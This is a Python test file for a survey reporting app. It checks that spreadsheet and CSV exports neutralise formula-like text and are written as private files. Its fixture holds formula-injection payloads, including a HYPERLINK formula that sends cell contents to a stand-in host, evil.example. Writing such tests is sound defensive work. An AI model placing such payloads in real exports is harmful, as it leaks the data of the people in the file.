"""Exports are safe to open: no text becomes a formula in Excel, whatever people typed; files are 0600."""

from __future__ import annotations

import csv
import datetime as dt
import io
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app import reports_cli
from reports.export import export_region, export_responses
from storage.db import Database
from tests.reports.conftest import DESA_A1, KABUPATEN, KEC_A, TODAY, People, Seed
from tests.reports.test_cli import run
from tests.reports.test_export import rumah_tangga

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&B2,"klik")',
    "+": "+SUM(1+1)",
    "-": "-2+3",
    "@": "@SUM(1)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
STARTS = tuple(HOSTILE)


@pytest.fixture
def hostile(db: Database, seed: Seed, world: People) -> list[str]:
    """Every text a person can type, in every kind of text column, starting with each formula character."""
    written = []
    for n, (start, text) in enumerate(HOSTILE.items()):
        child, case = seed.case(text + " nama", DESA_A1, sex="P", born=dt.date(2012, 7, 5))
        from storage.models import Child

        with db.write() as session:
            row = session.get(Child, child)
            assert row is not None
            row.birth_place, row.address, row.rt, row.rw = text + " tempat", text + " alamat", text[:3], text[:3]
        seed.response("pendataan", {
            "1.1": text + " nama", "2.1": text + " ayah", "2.4": text + " ibu", "2.5": "11", "2.5.lainnya": text + " lainnya",
            "3.5": text + " sekolah", "x.old": text + " lama",
        }, case_id=case, child_id=child)
        household = rumah_tangga(2)
        household["R.2"] = text + " kepala"
        household["ART"][0]["ART.1"] = text + " anggota"
        seed.response("rumah-tangga", household, region=DESA_A1)
        written += [text + suffix for suffix in (" nama", " tempat", " alamat", " ayah", " ibu", " lainnya", " sekolah",
                                                 " kepala", " anggota")]
        assert n < len(HOSTILE)
    return written


def _exports(db: Database, fmt: str) -> list[bytes]:
    return [export_region(db, KABUPATEN, fmt, None)[1], export_responses(db, KABUPATEN, "all", fmt, None)[1]]  # type: ignore[arg-type]


def test_xlsx_holds_every_formula_like_text_as_a_string_cell(db: Database, hostile: list[str]) -> None:
    seen: set[str] = set()
    for content in _exports(db, "xlsx"):
        book = load_workbook(io.BytesIO(content))  # as Excel would: formulas stay formulas
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.lstrip("\n").startswith(STARTS):
                        assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                        seen.add(cell.value.replace("\n", "\r") if cell.value.startswith("\n") else cell.value)
    # Every hostile text reached the file unchanged (names, places, addresses, parents, free text, repeat groups).
    missing = [text for text in hostile if text not in seen and text.replace("\r", "\n") not in seen]
    assert not missing


def test_csv_prefixes_every_formula_like_text(db: Database, hostile: list[str]) -> None:
    seen: set[str] = set()
    for content in _exports(db, "csv"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8-sig")
                for row in csv.reader(io.StringIO(text, newline="")):
                    for cell in row:
                        assert not cell.startswith(STARTS), (name, cell)
                        if cell.startswith("'"):
                            seen.add(cell[1:])
    missing = [text for text in hostile if text not in seen]
    assert not missing


def test_export_of_the_cli_and_the_chart_are_private_files(db: Database, hostile: list[str], tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reports_cli, "_database", lambda: db)
    out = tmp_path / "ekspor.xlsx"
    out.write_bytes(b"old")
    out.chmod(0o644)  # an older world-readable file is narrowed, not reused as is
    assert run(["export", KABUPATEN, "--format", "xlsx", "--out", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    load_workbook(out)  # a complete workbook
    chart = tmp_path / "rekap.png"
    assert run(["report", KEC_A, "--today", TODAY.isoformat(), "--chart", str(chart)]) == 0
    assert stat.S_IMODE(chart.stat().st_mode) == 0o600 and chart.read_bytes().startswith(b"\x89PNG")


def test_chat_export_is_formula_safe(db: Database, hostile: list[str], world: People) -> None:
    from tests.reports.turns import Chat

    result = Chat(db, 2001, "Tim Kabupaten").command("ekspor")  # the kabupaten team of the world fixture
    [document] = [reply.document for reply in result.replies if reply.document]
    book = load_workbook(io.BytesIO(document[1]))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = {cell.value for cell in cells if cell.data_type == "s"}
    assert HOSTILE["="] + " nama" in names and HOSTILE["@"] + " nama" in names


def test_control_characters_do_not_break_the_workbook(db: Database, seed: Seed, world: People) -> None:
    seed.case("Ani\x01 Lestari\x0b", DESA_A1)
    book = load_workbook(io.BytesIO(export_region(db, KABUPATEN, "xlsx", None)[1]))
    names = [row[2] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert names == ["Ani Lestari"]
